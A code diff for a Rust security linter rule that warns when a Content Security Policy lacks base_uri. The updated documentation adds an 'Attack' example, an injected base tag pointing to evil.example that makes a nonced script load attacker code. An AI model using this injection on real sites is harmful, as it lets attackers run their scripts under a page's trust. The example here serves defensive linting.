@@ -6,14 +6,25 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for an enforced policy of pages without `base_uri`. Where scripts are told apart by a nonce, or by hashes
-    /// with `strict_dynamic`, it is an error. Where no script can run, it does not matter.
+    /// Looks for an enforced policy of pages without `base_uri`. If scripts are allowed by nonce, or by hash with
+    /// `strict_dynamic`, that is an error. If no script can run, nothing is reported.
     ///
     /// # Why it matters
     ///
-    /// An injected `<base href="https://evil.example/">` has every relative URL behind it start there. A script element
-    /// with the right nonce and a relative address then loads the attacker's file, and the nonce vouches for it.
-    /// `default_src` does not cover this.
+    /// A `base` element sets the URL that all relative URLs of the page start from. With a nonce, browsers trust the
+    /// script element and not its URL, so that an injected `base` element decides which file the trusted element loads.
+    /// `default_src` does not cover `base` elements.
+    ///
+    /// # Attack
+    ///
+    /// The attacker injects one tag above a script of the page:
+    ///
+    /// ```html
+    /// <base href="https://evil.example/">
+    /// <script nonce="hLb2n4Yz0rJgq1Qm5sT7vQ" src="/app.js"></script>
+    /// ```
+    ///
+    /// The browser loads `https://evil.example/app.js`, and runs it because of the nonce.
     ///
     /// # Example
     ///
@@ -21,17 +32,28 @@ lint! {
     /// content_security_policy: { default_src: self, script_src: nonce },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Write `base_uri: none`. Hardly any page uses a `base` element; one that does needs `self`.
     ///
     /// ```text
     /// content_security_policy: { default_src: self, script_src: nonce, base_uri: none },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_missing_base_uri, reason = "a second policy, set by the proxy, has base-uri")]
+    /// content_security_policy: { … },
+    /// ```
+    ///
+    /// Hardly ever reasonable, since `base_uri: none` costs nothing.
+    ///
     /// # References
     ///
-    /// - [CSP3, section 6.3.1](https://w3c.github.io/webappsec-csp/#directive-base-uri)
-    /// - [CSP3, section 7.3](https://w3c.github.io/webappsec-csp/#security-nonce-retargeting)
-    Warn "an injected `base` element moves relative URLs elsewhere" missing, check
+    /// - [CSP3, section 6.3.1, base-uri](https://w3c.github.io/webappsec-csp/#directive-base-uri)
+    /// - [CSP3, section 7.3, nonce retargeting](https://w3c.github.io/webappsec-csp/#security-nonce-retargeting)
+    Warn "an injected `base` element changes where relative URLs lead" missing, check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -41,8 +63,8 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     if !policy.serves_pages() || enforced.iter().any(|csp| is_moot(csp.node)) {
         return;
     }
-    // Where the origin of a script does not count, that of its base does.
-    // A second policy that goes by the origin alone stops such a script.
+    // With a nonce, browsers ignore where a script comes from, and a `base` element decides which file it loads. A second
+    // policy that allows scripts by origin alone stops such a script.
     let is_defeated = [Directive::ScriptSrc, Directive::ScriptSrcElem].into_iter().any(|directive| {
         let mut lists = enforced.iter().filter_map(|csp| csp.node.effective_clause(directive)).peekable();
         lists.peek().is_some() && lists.all(trusts_elements)
@@ -50,9 +72,9 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     let (level, note) = match is_defeated {
         true => (
             Level::Deny,
-            "an injected `base` element has a trusted script, or one that it loads, come from the attacker's host",
+            "an injected `<base>` makes a trusted script, or one that it loads, come from the attacker's host",
         ),
-        false => (Level::Warn, "an injected `base` element has links, forms and relative addresses lead elsewhere"),
+        false => (Level::Warn, "an injected `<base>` makes links, forms and relative URLs lead to the attacker's host"),
     };
     report.push_at(
         level,
@@ -63,7 +85,7 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     );
 }
 
-/// Whether a list trusts a script for its element, wherever the script comes from.
+/// Whether a list trusts a script because of its element, wherever the script comes from.
 pub(super) fn trusts_elements(list: &Clause) -> bool {
     let is_strict_dynamic = list.keyword(Keyword::StrictDynamic).is_some();
     list.has_nonce() || (is_strict_dynamic && list.nonce_or_hash().is_some())
